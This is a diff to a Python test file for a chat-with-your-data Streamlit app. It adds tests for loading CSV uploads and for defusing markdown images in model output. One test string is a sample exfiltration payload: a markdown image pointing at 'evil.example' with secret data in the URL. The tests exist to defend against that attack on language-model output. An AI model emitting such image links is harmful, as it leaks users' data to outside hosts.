@@ -23,7 +23,7 @@ from querychat.pipeline import Done, Failed, Token, ask
 from querychat.schema import Schema, quote_ident
 from querychat.ui.cache import ResultCache
 from querychat.ui.charts import chart_spec
-from querychat.ui.format import suggestions, timing_line
+from querychat.ui.format import ZWSP, defuse_images, defuse_stream, suggestions, timing_line
 from querychat.ui.live import STOPPED_EMPTY, LiveAnswer
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -139,6 +139,25 @@ def test_new_chat_clears_only_the_current_page() -> None:
     next(b for b in at.button if b.label == "New chat").click().run()
     assert len(at.chat_message) == 0 and stored(at, SCRATCH_KEY) == []
     assert len(stored(at, CHAT_KEY)) == 2
+
+
+def test_uploads_become_tables_once_and_a_bad_file_only_says_so() -> None:
+    at = ask_app(start(), "How many rows are there?")
+    good = "city,amount\n" + "".join(f"{c},{i}\n" for i, c in enumerate(["Lyon", "Porto", "Graz"] * 40))
+    at.sidebar.file_uploader[0].set_value(
+        [("my sales (1).csv", good.encode(), "text/csv"), ("broken.csv", b"\x00\x01garbage\xff" * 40, "text/csv")]
+    ).run()
+    assert not at.exception
+    src = at.session_state["qc.source"]
+    assert src.tables() == ["penguins", "seattle_weather", "my_sales_1"]
+    assert any("broken.csv" in e.value for e in at.sidebar.error), "a bad file says what is wrong"
+    for _ in range(3):  # reruns (any click) must not load the same upload again
+        at.run()
+    assert src.tables() == ["penguins", "seattle_weather", "my_sales_1"]
+    assert "| my_sales_1 | 120 | 2 |" in " ".join(m.value for m in at.sidebar.markdown)
+    assert len(stored(at)) == 2, "the chat is untouched"
+    at = ask_app(at, "How many rows are in my sales?")
+    assert len(stored(at)) == 4
 
 
 # -- failures -------------------------------------------------------------------------------------
@@ -327,6 +346,13 @@ def test_suggestions_fit_what_is_loaded(source: DuckDBSource) -> None:
 
 
 # -- safety and layering --------------------------------------------------------------------------
+def test_model_markdown_images_are_defused_in_history_and_streams() -> None:
+    leak = "Done ![chart](https://evil.example/p.png?q=secret) and [a link](https://example.org)"
+    assert "![" not in defuse_images(leak) and "[a link](https://example.org)" in defuse_images(leak)
+    streamed = "".join(defuse_stream(["Done !", "[chart](https://evil.example/p.png)", " ok!", "![x](y)"]))
+    assert "![" not in streamed and streamed.replace(ZWSP, "") == "Done ![chart](https://evil.example/p.png) ok!![x](y)"
+
+
 def test_no_raw_html_and_no_eval_in_the_ui() -> None:
     files = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")), *sorted((ROOT / "querychat" / "ui").glob("*.py"))]
     for path in files:
